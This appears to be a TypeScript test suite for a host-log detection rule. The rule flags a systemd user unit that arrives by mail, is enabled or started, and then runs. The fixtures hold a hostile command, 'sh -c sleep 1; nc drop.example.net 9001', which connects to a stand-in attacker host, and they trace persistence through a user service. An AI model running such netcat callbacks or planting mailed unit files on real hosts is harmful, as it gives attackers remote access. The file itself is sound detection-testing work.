import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { atMostAt, firesAt, inOrder, scanLog, silent } from './stories.test-support.ts';

/** systemd(1) runs the commands of a unit file: no file of the content is ever handed to execve. */

const OUT = '203.0.113.67';
const UNITS = '/home/clerk/.config/systemd/user';
const UNIT = `${UNITS}/sync.service`;
const LINE = ['/bin/sh', '-c', 'sleep 1; nc drop.example.net 9001'];

interface Setting {
  readonly log: HostLog;
  readonly manager: Process;
  readonly shell: Process;
}

/** A clerk who is logged in saves an attachment as `path` with a mail client. */
function saved(path: string): Setting {
  const log = new HostLog();
  const manager = log.manager('clerk');
  log.deliver({ unseen: true });
  log.wait(MINUTE);
  log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').write(path);
  log.wait(10 * SECOND);
  return { log, manager, shell: log.shell('clerk') };
}

const ends = (run: Process): Process => run.run('/usr/bin/nc drop.example.net 9001').connect(OUT, 9001);

test('a unit that came by mail and is started is content that runs', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user enable --now sync');
  manager.read(UNIT);
  ends(manager.run(LINE));
  inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [
    ['mail.delivered'],
    ['file.created', UNIT],
    ['file.opened', UNIT],
    ['content.executed', 'obeyed by the service manager'],
    ['network.connected', OUT],
  ]);
});

test('also where no record tells that the manager reads it', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user start sync.service');
  ends(manager.run(LINE));
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('or at the next login, without an order', async () => {
  const { log, manager } = saved(UNIT);
  log.wait(30 * MINUTE);
  manager.read(UNIT);
  ends(manager.run(LINE));
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('saved elsewhere and put among the units afterwards', async () => {
  const { log, manager, shell } = saved('/home/clerk/Documents/sync.service');
  shell.run('/usr/bin/mv Documents/sync.service .config/systemd/user/').rename('Documents/sync.service', UNIT);
  shell.run('/usr/bin/systemctl --user restart sync');
  manager.read(UNIT);
  ends(manager.run(LINE));
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('the command before the service counts, and the service too', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user start sync');
  manager.read(UNIT);
  manager.run(['/bin/sh', '-c', 'mkdir -p ~/.cache/x']).run('/usr/bin/mkdir -p /home/clerk/.cache/x');
  ends(manager.run(LINE));
  firesAt(await scanLog(log), 'AN0656', 'high');
});

test('what else the manager starts then is not of the unit', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user daemon-reload');
  manager.read(UNIT);
  manager.run('/usr/libexec/tracker-extract-3').write('/home/clerk/.cache/index').connect(OUT, 443);
  silent(await scanLog(log));
});

test('a shell that another unit has started minutes later is not either', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user daemon-reload');
  manager.read(UNIT);
  log.wait(MINUTE);
  ends(manager.run(LINE));
  atMostAt(await scanLog(log), 'informational');
});

test('an order to start one unit says nothing of another that came by mail', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user start backup');
  ends(manager.run(LINE));
  silent(await scanLog(log));
});

test('a unit that just names an installed program has it do its own work', async () => {
  const { log, manager, shell } = saved(UNIT);
  shell.run('/usr/bin/systemctl --user start sync');
  manager.read(UNIT);
  manager.run('/usr/bin/syncthing serve --no-browser').connect(OUT, 22_000);
  silent(await scanLog(log));
});

test('a unit that its user wrote is the work of its user', async () => {
  const { log, manager, shell } = saved('/home/clerk/Documents/letter.odt');
  shell.run('/usr/bin/vim .config/systemd/user/sync.service').write(UNIT);
  shell.run('/usr/bin/systemctl --user start sync');
  manager.read(UNIT);
  ends(manager.run(LINE));
  silent(await scanLog(log));
});

test('what a client keeps among its settings is no content', async () => {
  const { log, manager } = saved('/home/clerk/.config/autostart/thunderbird.desktop');
  manager.read('/home/clerk/.config/autostart/thunderbird.desktop');
  ends(manager.run(LINE));
  silent(await scanLog(log));
});
